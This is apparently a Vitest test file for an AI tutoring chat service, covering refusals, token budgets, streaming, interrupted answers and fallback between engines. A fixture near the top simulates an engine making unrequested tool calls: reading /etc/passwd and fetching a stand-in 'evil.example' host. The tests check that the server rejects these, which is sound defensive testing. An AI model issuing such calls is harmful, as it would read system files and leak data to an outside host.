import { afterEach, describe, expect, it } from 'vitest';
import { askChat, getChatStatus, resetChat } from '../../domain/aichats/aichats.contract.ts';
import { putMaterialHelp } from '../../domain/aichats/settings.contract.ts';
import { aiEngine } from '../../tests/support/ai-engine.ts';
import { engineRoom } from '../../tests/support/engine-room.ts';
import { chatRoom } from '../../tests/support/chat-room.ts';
import { testApp } from '../../tests/support/test-app.ts';

const { engine, test, budgetsOf } = await engineRoom();
const origin = await test.app.listen({ host: '127.0.0.1', port: 0 });
afterEach(() => test.clock.set(new Date()));

const answersOf = async (userId: number) => {
  const { rows } = await test.services.database.pool.query(
    `select m.content, m.state from ai_messages m join ai_conversations c on c.id = m.conversation_id
      where c.user_id = $1 and m.role = 'assistant' order by m.id`,
    [userId],
  );
  return rows;
};
/** Of an engine that was offered no tool. */
const toolCalls = [
  { name: 'read_file', arguments: '{"path": "/etc/passwd"}' },
  { name: 'fetch', arguments: '{"url": "https://evil.example/?q=1"}' },
];

describe('refuses, and keeps neither question nor tokens', () => {
  it.each([
    [429, { 'retry-after': '17' }, 429, 'aiBusy', '17'],
    [413, {}, 413, 'aiQuestionTooLong', undefined],
    [500, {}, 502, 'aiUnavailable', undefined],
    [401, {}, 502, 'aiUnavailable', undefined],
  ])('when the engine answers %i', async (status, headers, expected, error, retryAfter) => {
    const { trainee, ask, chat } = await chatRoom(test, { monthlyAiTokens: 20_000 });
    engine.plays({ status, headers });
    const refused = await ask(trainee, 'malloc');
    expect(refused).toMatchObject({ status: expected, error });
    expect(refused.headers['retry-after']).toBe(retryAfter);
    expect((await chat(trainee)).recentMessages).toEqual([]);
    expect(await budgetsOf(trainee.userId)).toEqual([{ used: 0, reserved: 0 }]);
    // So that the next one is asked at once: what failed three times in a row is left alone.
    engine.plays({ texts: ['Yes.'] });
    test.clock.advance(60_000);
    expect((await ask(trainee, 'malloc')).text).toBe('Yes.');
  });

  it('when the engine wants tools called instead, of which it was offered none', async () => {
    const { trainee, ask, chat } = await chatRoom(test, { monthlyAiTokens: 20_000 });
    engine.plays({ toolCalls });
    expect(await ask(trainee, 'malloc')).toMatchObject({ status: 502, error: 'aiUnavailable' });
    expect(engine.calls).toHaveLength(1);
    expect(engine.calls[0]?.body).not.toHaveProperty('tools');
    expect((await chat(trainee)).recentMessages).toEqual([]);
    expect(await budgetsOf(trainee.userId)).toEqual([{ used: 0, reserved: 0 }]);
    test.clock.advance(60_000);
  });

  it('when less is left than an answer needs, and tells when that changes', async () => {
    test.clock.set(new Date('2026-12-31T14:59:00Z'));
    const { trainee, ask } = await chatRoom(test, { monthlyAiTokens: 50 });
    engine.plays({ texts: ['No.'] });
    expect(await ask(trainee, 'malloc')).toMatchObject({
      status: 403,
      messages: [
        'AI Assistant Usage token limit exceeded. Feature will be unavailable until monthly tokens reset.',
      ],
    });
    expect(engine.calls).toEqual([]);
    const { result } = await trainee.client.call(getChatStatus, {});
    expect(result).toMatchObject({
      hasTokens: false,
      tokens: { left: 50, monthly: 50, resetsOn: '2027-01-01' },
    });
    expect((await ask(trainee, 'malloc', { searchOnly: true })).text).toMatch(/^Found in/);
  });
});

it('streams word by word, counts by the engine’s figures, and marks what was cited', async () => {
  const { trainee, ask, chat, classId } = await chatRoom(test, { monthlyAiTokens: 20_000 });
  engine.plays({
    texts: ['Compare it with NULL', ' each time [1].'],
    usage: { prompt_tokens: 700, completion_tokens: 41 },
  });
  const { text } = await ask(trainee, 'What is malloc?', { lc: classId });
  expect(text).toBe('Compare it with NULL each time [1].');
  expect(engine.calls[0]).toMatchObject({
    key: 'Bearer secret-key',
    body: { model: 'aozora-2.1', stream: true, max_tokens: 1000 },
  });
  const { recentMessages, status } = await chat(trainee);
  expect(recentMessages[1]).toMatchObject({
    content: text,
    state: 'done',
    model: 'Aozora Tutor 2.1',
    modelVersion: 'aozora-2.1',
  });
  expect(recentMessages[1]?.sources.map(({ isCited }) => isCited)).toEqual([true, false, false]);
  expect(status.tokens).toMatchObject({ left: 19_259, monthly: 20_000 });
  expect(await budgetsOf(trainee.userId)).toEqual([{ used: 741, reserved: 0 }]);
});

it('puts letters together that came in pieces', async () => {
  const { trainee, ask } = await chatRoom(test);
  engine.plays({ texts: ['メモリが足り', 'なければ𠮟る🙂。'], inBytes: true });
  expect((await ask(trainee, 'malloc')).text).toBe('メモリが足りなければ𠮟る🙂。');
});

it('tells an engine of the answers before, until the context is closed, and only of whole ones', async () => {
  const { trainee, ask, classId } = await chatRoom(test);
  engine.plays({ texts: ['First answer.'] });
  await ask(trainee, 'malloc one');
  await ask(trainee, 'malloc two');
  const roles = engine.calls[1]?.body.messages.map(({ role, content }) => [
    role,
    content.slice(0, 13),
  ]);
  expect(roles?.slice(1)).toEqual([
    ['user', 'malloc one'],
    ['assistant', 'First answer.'],
    ['user', 'malloc two\n\n<'],
  ]);
  const rolesOf = (call: number) => engine.calls[call]?.body.messages.map(({ role }) => role);
  // What was said in another class is not carried into this one.
  await ask(trainee, 'malloc three', { lc: classId });
  expect(rolesOf(2)).toEqual(['system', 'user']);
  await ask(trainee, 'malloc four', { lc: classId });
  expect(rolesOf(3)).toEqual(['system', 'user', 'assistant', 'user']);
  await trainee.client.call(resetChat, {});
  await ask(trainee, 'malloc five', { lc: classId });
  expect(rolesOf(4)).toEqual(['system', 'user']);
});

it.each([{ breaksOff: 'reset' }, { breaksOff: 'silently' }, { toolCalls }] as const)(
  'keeps what came of an answer that broke off (%o), and does not take it for whole',
  async (plan) => {
    const { trainee } = await chatRoom(test, { monthlyAiTokens: 20_000 });
    engine.plays({ texts: ['The first half'], ...plan });
    const asked = fetch(`${origin}${askChat.path}`, {
      method: 'POST',
      headers: { ...trainee.client.cookie, 'content-type': 'application/json', origin },
      body: JSON.stringify({ message: 'malloc' }),
    });
    await expect(asked.then((response) => response.text())).rejects.toThrow();
    await expect
      .poll(() => answersOf(trainee.userId))
      .toEqual([{ content: 'The first half', state: 'broken' }]);
    const [budget] = await budgetsOf(trainee.userId);
    expect(budget.reserved).toBe(0);
    expect(budget.used).toBeGreaterThan(0);
    expect(engine.calls).toHaveLength(1);
  },
);

it('stops the engine within 100 ms of a drawer that closes, and keeps what was streamed', async () => {
  const { trainee } = await chatRoom(test, { monthlyAiTokens: 20_000 });
  engine.plays({
    texts: ['word ', 'never said'],
    eachAfter: () => new Promise(() => {}),
  });
  const drawer = new AbortController();
  const response = await fetch(`${origin}${askChat.path}`, {
    method: 'POST',
    headers: { ...trainee.client.cookie, 'content-type': 'application/json', origin },
    body: JSON.stringify({ message: 'malloc' }),
    signal: drawer.signal,
  });
  const reader = response.body?.getReader();
  expect(new TextDecoder().decode((await reader?.read())?.value)).toMatch(/^word /);
  const closedAt = performance.now();
  drawer.abort();
  const { cut } = await engine.called();
  expect((await cut) - closedAt).toBeLessThan(100);
  await expect
    .poll(() => answersOf(trainee.userId))
    .toEqual([{ content: 'word ', state: 'stopped' }]);
  expect((await budgetsOf(trainee.userId))[0]).toMatchObject({ reserved: 0 });
});

it('stops an engine that has not said a word when nobody waits any more', async () => {
  const { trainee } = await chatRoom(test, { monthlyAiTokens: 20_000 });
  let go = () => {};
  engine.plays({ texts: ['late'], firstAfter: new Promise<void>((resolve) => (go = resolve)) });
  const drawer = new AbortController();
  const asked = fetch(`${origin}${askChat.path}`, {
    method: 'POST',
    headers: { ...trainee.client.cookie, 'content-type': 'application/json', origin },
    body: JSON.stringify({ message: 'malloc' }),
    signal: drawer.signal,
  }).catch(() => undefined);
  const { cut } = await engine.called();
  drawer.abort();
  await asked;
  await cut;
  go();
  await expect.poll(() => answersOf(trainee.userId)).toEqual([{ content: '', state: 'stopped' }]);
  expect((await budgetsOf(trainee.userId))[0]).toMatchObject({ reserved: 0 });
});

it('asks a cheaper engine first where hints are given, and the next one where one does not answer', async () => {
  const [large, small] = [await aiEngine(), await aiEngine()];
  const two = await testApp({
    ai: [
      { ...large.address, label: 'Large' },
      { ...small.address, label: 'Small', isCheaper: true },
    ],
  });
  try {
    const { trainee, ask, chat, classId, materialIds, instructor } = await chatRoom(two);
    large.plays({ texts: ['From the large one.'] });
    small.plays({ texts: ['From the small one.'] });
    expect((await ask(trainee, 'malloc', { lc: classId })).text).toBe('From the large one.');
    large.plays({ status: 503 });
    expect((await ask(trainee, 'malloc', { lc: classId })).text).toBe('From the small one.');
    expect((await chat(trainee)).recentMessages.at(-1)?.model).toBe('Small');
    const [classMaterialId = 0] = materialIds;
    await instructor.client.call(putMaterialHelp, {
      params: { classId, classMaterialId },
      body: { helpLevel: 'hints' },
    });
    large.plays({ texts: ['From the large one.'] });
    const place = { lc: classId, lm: classMaterialId };
    expect((await trainee.client.call(getChatStatus, { query: place })).result?.model).toBe(
      'Small',
    );
    expect((await ask(trainee, 'malloc', place)).text).toBe('From the small one.');
    expect(large.calls).toEqual([]);
  } finally {
    await two.close();
    await large.close();
    await small.close();
  }
});
